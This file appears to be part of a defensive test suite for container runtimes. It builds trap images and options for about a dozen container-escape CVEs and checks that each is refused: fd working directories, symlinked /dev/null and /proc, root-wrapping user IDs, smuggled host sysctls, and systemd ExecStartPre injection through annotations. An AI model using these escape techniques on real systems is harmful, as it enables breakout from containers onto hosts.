"""Images and options that are traps for whoever starts a container of them: T02, T04 to T07, T13 to T15, T20, T21."""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

from attacker import SECRET, Fifo, Link, Target, attack, escaped_if

from daemons import Daemon

_ODD_USERS = ("4294967296", "2147483648:0", "-1", "4294967295", "0x0", "1:4294967296", "nosuchuser", "bob:nosuchgroup")


@attack("T02", "a working directory through a descriptor of the host")
def working_directory(target: Target) -> str:
    """CVE-2024-21626."""
    script = f"echo tried; cat {'../' * 12}{str(target.canary)[1:]}/file; ls /proc/self/fd"
    tried = 0
    with target.running("busybox", "sleep", "60") as name:
        for number in range(3, 11):
            for words in (
                ["run", "--rm", *target.flags, "-w", f"/proc/self/fd/{number}", "busybox", "sh", "-c", script],
                ["exec", "-w", f"/proc/self/fd/{number}", name, "sh", "-c", script],
            ):
                done = target.docker(*words)
                escaped_if(SECRET in done.stdout, f"docker {words[0]} -w /proc/self/fd/{number} reads the host")
                tried += 1
        found = target.docker("exec", name, "ls", "/proc/1/fd", "/proc/self/fd").stdout.split()
    assert tried == 16
    numbers = {word for word in found if word.isdigit()}
    escaped_if(numbers - {"0", "1", "2", "3"}, f"descriptors of the host are open inside: {sorted(numbers)}")
    return "every directory is outside the root or not there; only 0, 1 and 2 are open"


@attack("T04", "the image's /dev/null is a link, so that masks lead elsewhere")
def null_device(target: Target) -> str:
    """CVE-2025-31133."""
    image = target.image({"dev/null": Link("/proc/sys/kernel/core_pattern"), "dev/zero": Link("/proc/sysrq-trigger")})
    out = target.sh(
        "stat -c %t:%T /dev/null; for f in keys timer_list; do echo owned > /proc/$f; cat /proc/$f; done; echo tried",
        image=image,
    )
    assert "tried" in out, out
    escaped_if("owned" in out.replace("echo owned", ""), "a mask took what was written")
    escaped_if(not out.startswith("1:3"), f"/dev/null is not the null device: {out}")
    for chosen in ("busybox", image):
        out = target.sh(
            "touch -d '2001-02-03 04:05' /proc/keys /dev/null; stat -c %Y /dev/null; echo tried", image=chosen
        )
        assert "981" in out.split("tried", maxsplit=1)[0], out  # its own device takes that time
        escaped_if(time.gmtime(os.stat("/dev/null").st_mtime).tm_year == 2001, "a mask is the host's own null device")
    return "masks are the container's own null device, known by its number"


@attack("T05", "terminals of the image stand where the console will be")
def console(target: Target) -> str:
    """CVE-2025-52565."""
    image = target.image(
        {path: Link(f"{target.upwards}/file") for path in ("dev/pts/0", "dev/console", "dev/ptmx", "dev/tty")}
    )
    out = target.sh("stat -c console=%t:%T /dev/console; echo x > /dev/console; echo tried", "-t", image=image)
    assert "tried" in out, out
    escaped_if("console=88:" not in out and "console=5:1" not in out, f"the console is something else: {out}")
    return "the console is the descriptor of a terminal of the container's own devpts"


@attack("T06", "/proc or /sys of the image is no directory, or a volume")
def fake_proc(target: Target) -> str:
    """CVE-2025-52881, CVE-2019-16884, CVE-2019-19921, CVE-2023-27561, CVE-2023-28642."""
    endings = []
    for name in ("proc", "sys"):
        for where in ("/tmp", target.upwards, "/etc/passwd"):
            image = target.image({name: Link(where)})
            done = target.run("--sysctl", "net.ipv4.ip_forward=1", image, "sh", "-c", "echo ran; ls /proc/self/attr")
            endings.append("refused" if done.returncode in (125, 126, 127) else "ran")
            assert done.returncode in (0, 1, 125, 126, 127), done.stderr
    for extra in (["-v", "/proc"], ["-v", f"{target.canary}:/proc"], ["-v", f"{target.canary}:/proc/sys/kernel"]):
        words = ["--sysctl", "kernel.msgmax=4096", *extra]
        done = target.run(*words, "busybox", "sh", "-c", "echo tried; echo x > /proc/sys/kernel/core_pattern")
        endings.append("refused" if done.returncode in (125, 126, 127) else "ran")
        # what the container's own program wrote to a directory that it was given is none of the runtime's
        (target.canary / "core_pattern").unlink(missing_ok=True)
        fresh = {path.name for path in target.canary.iterdir()} - {"file"}
        escaped_if(fresh, f"the runtime wrote into a fake procfs: {sorted(fresh)}")
    assert len(endings) == 9
    refused = endings.count("refused")
    return f"{refused} of {len(endings)} refused, the others started on a real procfs"


@attack("T07", "/dev, /mnt or /etc of the image lead out of the root")
def links_to_the_host(target: Target) -> str:
    """CVE-2024-45310, CVE-2026-41579, CVE-2026-47766."""
    tried = 0
    for name in ("dev", "mnt", "etc"):
        image = target.image({name: Link(f"{target.upwards}/new")})
        done = target.run("-v", "/mnt/deep", "--tmpfs", "/mnt/tmp", "-w", "/mnt/work", image, "sh", "-c", "echo ran")
        tried += done.returncode in (0, 125, 126, 127)
        fresh = {path.name for path in target.canary.iterdir()} - {"file"}
        escaped_if(fresh, f"made on the host through /{name}: {sorted(fresh)}")
    assert tried == 3
    return "every path is resolved inside the root; nothing is made outside"


@attack("T13", "capabilities that a program inherits without being root")
def inheritable(target: Target) -> str:
    """CVE-2022-24769, CVE-2022-29162, CVE-2022-27649."""
    read = ["grep", "-E", "^Cap(Inh|Amb|Eff)", "/proc/self/status"]
    lines = []
    with target.running("busybox", "sleep", "60") as name:
        for words in (
            ["run", "--rm", *target.flags, "busybox", *read],
            ["run", "--rm", *target.flags, "-u", "1000", "--cap-add", "SYS_TIME", "busybox", *read],
            ["exec", name, *read],
            ["exec", "-u", "1000", name, *read],
        ):
            sets = dict(line.split(":\t") for line in target.docker(*words, check=True).stdout.splitlines())
            lines.append((words[0], "1000" in words, sets))
    assert len(lines) == 4
    for command, is_user, sets in lines:
        held = int(sets["CapInh"], 16) | int(sets["CapAmb"], 16) | (int(sets["CapEff"], 16) if is_user else 0)
        escaped_if(held, f"{command} of {'a user' if is_user else 'root'} holds {sets}")
    return "inheritable and ambient sets are empty, and a user holds nothing"


@attack("T14", "a file that is closed to a group, by one whose primary group it is")
def primary_group(target: Target) -> str:
    """CVE-2022-36109, CVE-2023-25173."""
    image = target.image({}, "USER bob")
    script = "id -G; touch /tmp/x; chmod 604 /tmp/x; stat -c %g /tmp/x"
    groups, owner = target.sh(script, image=image).splitlines()[:2]
    assert owner == "1000"
    escaped_if("1000" not in groups.split(), f"the primary group is missing among {groups}")
    return "the primary group is among the supplementary ones"


@attack("T15", "user names and numbers that wrap to root, and passwd files that block or fill memory")
def users(target: Target) -> str:
    """CVE-2024-40635, CVE-2026-30892, CVE-2024-9676, CVE-2026-47262."""
    for user in _ODD_USERS:
        done = target.run("-u", user, "busybox", "id", "-u")
        escaped_if(done.returncode == 0 and done.stdout.strip() == "0", f"-u {user} is root")
    # each asks for a name that only the trap could give
    traps: list[dict[str, str | bytes | Link | Fifo]] = [
        {"etc/passwd": Fifo()},
        {"etc/group": Fifo()},
        {"etc/passwd": Link("/dev/zero")},
        {"etc/passwd": Link("/etc/fifo"), "etc/fifo": Fifo()},
        {"etc/passwd": "trap:x:1:1::/:/bin/sh\n" + "#" * (40 << 20)},
    ]
    for entries in traps:
        image = target.image(entries)
        for words in (["-u", "trap:trap"], ["-u", "1000:trap"]):
            try:
                done = target.run(*words, image, "id", "-u", timeout=20)
            except subprocess.TimeoutExpired:
                escaped_if(True, f"a start with {sorted(entries)} as a trap does not end")
            escaped_if(done.returncode == 0 and done.stdout.strip() == "0", f"{sorted(entries)} makes root")
    return "numbers outside 0 to 2³¹-1 are refused; only regular files are read, and no more than a bounded part"


@attack("T20", "sysctls that belong to the host")
def sysctls(target: Target) -> str:
    """CVE-2022-0811."""
    tries: tuple[tuple[str, ...], ...] = (
        ("--sysctl", "kernel.core_pattern=x"),
        ("--sysctl", "kernel.shm_rmid_forced=1+kernel.core_pattern=x"),
        ("--sysctl", "net.ipv4.ip_forward=1\nkernel.core_pattern=x"),
        ("--sysctl", "net.ipv4/../../kernel/core_pattern=x"),
        ("--sysctl", "net/../kernel/core_pattern=x"),
        ("--sysctl", "fs.mqueue/../../kernel/core_pattern=x"),
        ("--sysctl", "vm.overcommit_memory=1"),
        ("--network", "host", "--sysctl", "net.ipv4.ip_forward=1"),
        ("--ipc", "host", "--sysctl", "kernel.msgmax=1"),
        ("--uts", "host", "--sysctl", "kernel.domainname=evil"),
    )
    for words in tries:
        done = target.run(*words, "busybox", "true")
        target.check()
        # older dockerds take a second line for a part of the value: harmless, and still not what we do
        assert done.returncode or not isinstance(target.engine, Daemon), f"{' '.join(words)!r} was accepted"
    control = target.run("--sysctl", "net.ipv4.ip_forward=1", "busybox", "cat", "/proc/sys/net/ipv4/ip_forward")
    assert control.stdout.strip() == "1", control.stderr
    return f"{len(tries)} of {len(tries)} refused; net.* in a network of its own works"


@attack("T21", "the files that an engine writes into /etc are links, directories, pipes")
def files_of_etc(target: Target) -> str:
    """CVE-2024-5154, CVE-2024-9341."""
    names = ("hosts", "resolv.conf", "hostname", "mtab")
    ran = 0
    for entry in (Link(f"{target.upwards}/file"), Link(f"{target.upwards}/new"), Fifo(), ""):
        image = target.image({f"etc/{name}{'/' if entry == '' else ''}": entry for name in names})
        try:
            done = target.run(image, "sh", "-c", "echo ran", timeout=20)
        except subprocess.TimeoutExpired:
            escaped_if(True, "a start that meets a pipe does not end")
        ran += done.returncode in (0, 125, 126, 127)
        fresh = {path.name for path in target.canary.iterdir()} - {"file"}
        escaped_if(fresh, f"made on the host: {sorted(fresh)}")
    # properties for systemd, smuggled in by annotations (CVE-2024-3154)
    body = {
        "Image": "busybox",
        "Cmd": ["true"],
        "HostConfig": {"Annotations": {"org.systemd.property.ExecStartPre": f"'/bin/touch {target.canary}/new'"}},
    }
    status, answer = target.request("POST", "/containers/create", body)
    if status == 201:
        made = json.loads(answer)["Id"]
        target.request("POST", f"/containers/{made}/start")
        target.request("DELETE", f"/containers/{made}?force=1")
    assert ran == 4
    assert Path("/etc/hosts").exists()
    return "written on the host's side and mounted over what is inside the root"
